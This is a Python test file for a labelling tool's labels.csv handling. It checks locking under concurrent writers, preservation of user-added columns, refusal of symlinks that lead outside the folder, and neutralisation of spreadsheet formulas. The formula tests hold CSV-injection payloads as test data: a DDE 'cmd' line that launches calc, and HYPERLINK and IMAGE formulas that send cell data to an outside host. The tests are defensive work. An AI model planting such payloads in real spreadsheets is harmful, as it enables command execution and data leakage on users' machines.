"""labels.csv under concurrent writers, hostile content and hand edits (issue #18): an OS lock
around read-modify-write, user columns kept, formula cells neutralised, no symlink followed out
of the folder, stale temporary files removed."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import filelock
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from loopscope import csvsafe
from loopscope import labels as labels_mod
from loopscope.labels import (
    Label,
    LabelSet,
    LabelsLockTimeout,
    dump_labels,
    load_labels,
    parse_labels,
    save_labels,
    update_label_file,
)

REPO = Path(__file__).resolve().parents[1]

# --------------------------------------------------------------------------- two processes

_WRITER = textwrap.dedent("""
    import os, sys, time
    from loopscope.labels import update_label_file
    path, tag, count, go = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    while not os.path.exists(go):  # start together, for as much overlap as possible
        time.sleep(0.001)
    for i in range(count):
        update_label_file(path, f"{tag}-{i:04d}.json", "loop" if i % 2 else "ok",
                          i if i % 2 else None)
""")


def test_two_processes_labelling_at_once_lose_nothing(tmp_path: Path) -> None:
    """The review lost 40–48 % of 300 labels with two writers; every one must be kept."""
    path = tmp_path / "labels.csv"
    go = tmp_path / "go"
    count = 150
    env = dict(os.environ, PYTHONPATH=str(REPO / "src"))
    writers = [subprocess.Popen([sys.executable, "-c", _WRITER, str(path), tag, str(count),
                                 str(go)], env=env) for tag in ("a", "b")]
    time.sleep(0.5)  # both interpreters up and waiting
    go.touch()
    for w in writers:
        assert w.wait(timeout=120) == 0
    loaded, problems = load_labels(path)
    assert not problems
    assert len(loaded) == 2 * count
    assert loaded["b-0149.json"] == Label.loop("b-0149.json", 149)
    assert loaded["a-0000.json"] == Label.ok("a-0000.json")
    leftovers = [n for n in os.listdir(tmp_path) if n.endswith(".tmp")]
    assert leftovers == []


def test_two_threads_of_one_server_lose_nothing(tmp_path: Path) -> None:
    """Browser sessions of one dashboard are threads of one process: the file lock holds
    between them too (each save opens its own lock file descriptor)."""
    import threading

    path = tmp_path / "labels.csv"
    start = threading.Barrier(2)

    def writer(tag: str) -> None:
        start.wait()
        for i in range(60):
            update_label_file(path, f"{tag}-{i:03d}.json", "ok")

    threads = [threading.Thread(target=writer, args=(tag,)) for tag in ("x", "y")]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert len(load_labels(path).labels) == 120


def test_a_writer_waits_for_the_lock_and_gives_up_with_a_clear_error(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "labels.csv"
    update_label_file(path, "a.json", "ok")
    before = path.read_bytes()
    monkeypatch.setattr(labels_mod, "LOCK_TIMEOUT_S", 0.2)
    with filelock.FileLock(str(tmp_path / ".labels.csv.lock")), \
            pytest.raises(LabelsLockTimeout) as caught:
        update_label_file(path, "b.json", "loop")
    assert isinstance(caught.value, OSError)
    assert "labels.csv" in str(caught.value) and "try again" in str(caught.value)
    assert path.read_bytes() == before


def test_stale_temporary_files_are_removed_under_the_lock(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    update_label_file(path, "a.json", "ok")
    mine = tmp_path / ".labels.csv.k3j4h5.tmp"  # a writer killed before its rename
    old_style = tmp_path / ".labels-x8y9.csv.tmp"  # an earlier version's, two hours old
    fresh_old_style = tmp_path / ".labels-z1.csv.tmp"  # maybe still being written
    other = tmp_path / ".notes.csv.q.tmp"  # another file's: not ours to touch
    for f in (mine, old_style, fresh_old_style, other):
        f.write_text("source,label\n")
    two_hours_ago = time.time() - 7200
    os.utime(old_style, (two_hours_ago, two_hours_ago))
    update_label_file(path, "b.json", "loop")
    left = sorted(n for n in os.listdir(tmp_path) if n.endswith(".tmp"))
    assert left == sorted([fresh_old_style.name, other.name])


# --------------------------------------------------------------------------- user columns


def test_columns_the_user_added_survive_every_save(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    path.write_text("source,note,label,from_turn,reviewer\n"
                    "a.json,looked twice,loop,2,ann\n"
                    "b.json,,ok,,bob\n"
                    "c.json,drop me,ok,,\n", encoding="utf-8")
    update_label_file(path, "d.json", "loop", 5)
    update_label_file(path, "c.json", None)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert rows == [
        ["source", "note", "label", "loop_from_turn_index", "reviewer"],  # renamed in place
        ["a.json", "looked twice", "loop", "2", "ann"],
        ["b.json", "", "ok", "", "bob"],
        ["d.json", "", "loop", "5", ""],
    ]
    save_labels(path, LabelSet([Label.loop("a.json", 3), Label.ok("e.json")]))
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert rows[1] == ["a.json", "looked twice", "loop", "3", "ann"]
    assert rows[2] == ["e.json", "", "ok", "", ""]


def test_a_note_column_is_added_when_asked(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    update_label_file(path, "a.json", "ok")
    update_label_file(path, "b.json", "loop", 1, columns={"note": "retries the same build"})
    update_label_file(path, "a.json", "ok", columns={"note": "fine"})
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert rows == [["source", "label", "loop_from_turn_index", "note"],
                    ["a.json", "ok", "", "fine"],
                    ["b.json", "loop", "1", "retries the same build"]]
    with pytest.raises(ValueError):
        update_label_file(path, "a.json", "ok", columns={"Label": "x"})


def test_a_file_without_from_turn_gets_the_column_when_needed(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    path.write_text("label,source\nok,a.json\n", encoding="utf-8")
    update_label_file(path, "b.json", "loop", 4)
    assert dict(load_labels(path).labels) == {"a.json": Label.ok("a.json"),
                                              "b.json": Label.loop("b.json", 4)}
    assert path.read_text(encoding="utf-8").splitlines()[0] == "label,source,loop_from_turn_index"


# --------------------------------------------------------------------------- symlinks


def test_a_labels_symlink_out_of_its_folder_is_neither_written_nor_read(tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere" / "labels.csv"
    outside.parent.mkdir()
    outside.write_text("source,label\nsecret.json,ok\n", encoding="utf-8")
    before = outside.read_bytes()
    sessions = tmp_path / "sessions"
    sessions.mkdir()
    link = sessions / "labels.csv"
    link.symlink_to(outside)
    with pytest.raises(ValueError, match="outside its folder"):
        update_label_file(link, "a.json", "loop")
    with pytest.raises(ValueError, match="outside its folder"):
        save_labels(link, LabelSet([Label.ok("a.json")]))
    assert outside.read_bytes() == before
    loaded, problems = load_labels(link)
    assert len(loaded) == 0
    assert [(p.code, p.severity) for p in problems] == [("unsafe_link", "error")]
    assert str(link) in problems[0].message


def test_a_symlink_inside_the_folder_is_still_written_through(tmp_path: Path) -> None:
    real = tmp_path / "data" / "labels.csv"
    real.parent.mkdir()
    real.write_text("source,label,from_turn\n", encoding="utf-8")
    link = tmp_path / "labels.csv"
    link.symlink_to(real)
    update_label_file(link, "data/a.json", "ok")
    assert link.is_symlink()
    assert dict(load_labels(real).labels) == {"data/a.json": Label.ok("data/a.json")}


# --------------------------------------------------------------------------- formulas

FORMULAS = [
    '=HYPERLINK("https:"&"example.invalid?x="&A1,"open").json',
    "+cmd|' /C calc'!A0.json",
    "-2+3+cmd|' /C calc'!A0.json",
    "@SUM(1+1)*cmd|' /C calc'!A0.json",
    "\t=1+1.json",
    "'=already quoted.json",
]


def test_formula_cells_are_neutralised_and_read_back_unchanged(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    for i, source in enumerate(FORMULAS):
        update_label_file(path, source, "loop", i,
                          columns={"note": '=IMAGE("https://example.invalid/' + str(i) + '")'})
    cells = [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8")))
             for c in row]
    assert not [c for c in cells if c.startswith(csvsafe.TRIGGERS)]
    loaded, problems = load_labels(path)
    assert sorted(loaded) == sorted(FORMULAS)
    assert [p.code for p in problems] == []
    update_label_file(path, "plain.json", "ok")  # a rewrite changes nothing else
    again = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert [c for row in again for c in row if c not in ("plain.json", "ok", "")] == [
        c for c in cells if c]


def test_dump_labels_is_neutral_too() -> None:
    text = dump_labels(LabelSet([Label.ok(source) for source in FORMULAS]))
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c.startswith(csvsafe.TRIGGERS)]
    assert sorted(parse_labels(text).labels) == sorted(FORMULAS)


@settings(max_examples=300, derandomize=True)
@given(st.text())
def test_neutralise_round_trips_every_string(value: str) -> None:
    cell = csvsafe.neutralise(value)
    assert not cell.startswith(csvsafe.TRIGGERS)
    assert csvsafe.restore(cell) == value
    assert csvsafe.neutralise(csvsafe.restore(cell)) == cell  # a hand-saved file is stable


def test_neutralise_leaves_numbers_and_harmless_text_alone() -> None:
    assert csvsafe.neutralise(-3) == -3
    assert csvsafe.neutralise("a=b") == "a=b"
    assert csvsafe.neutralise("'quoted'") == "'quoted'"
    assert csvsafe.neutralise("=x") == "'=x"
    assert csvsafe.restore("'quoted'") == "'quoted'"
